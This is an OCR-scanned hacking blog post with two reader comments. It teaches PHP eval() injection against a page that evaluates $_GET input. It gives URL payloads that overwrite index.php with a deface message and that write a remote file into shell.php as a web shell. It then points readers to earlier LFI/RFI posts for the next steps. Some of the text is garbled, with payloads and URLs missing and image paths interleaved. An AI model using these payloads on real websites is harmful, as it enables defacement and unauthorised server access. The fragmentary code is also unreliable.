Saturday, 5 March 2011

Deface using EVAL()function

"Eval () is a PHP function that allows to interpret a given string as PHP code, because eval () is often used in Web applications,although interpretation of the chain is widely liked manipulated, eval () serves most of the time to execute php code containing previously defined variable.
The problem is that if eval () executes a variable that you can modify the code contained by php eval () will execute as such. Reminder: eval () allows execution of a given string as PHP code but not write (or if so desired) its content in this page or others, he is content to perform, and display the result."

Ok, this is our the vuln page :

$Ev = $_GET['ev'];
$eva = stripslashes($Ev);
Now lets go to the interesting part, to start we need to test if the page is vuln typing this :;
If you can see the phpinfo webpage, it means we can exploit it.
Now lets see what we can do .
1) You can just defacethe index.php using this URL ->$z=fopen("index.php",'w');fwrite($z,("Defaced by Hacker"));fclose($z);

2) Or you can create your shell with this URL ->$z=fopen("shell.php",'w');fwrite($z,file_get_contents(""));fclose($z);

3) Browse your shell :
Now just look at my oldposts (LFI or RFI) and you will know what to do from this point ;)


  1. Very nice tutorial.
    The question is how we know if the website parse variable that using eval() on the php script ??
    how to test the eval() vuln ??

    Thank you:)

  2. By using a Web Vulnerability Scanner.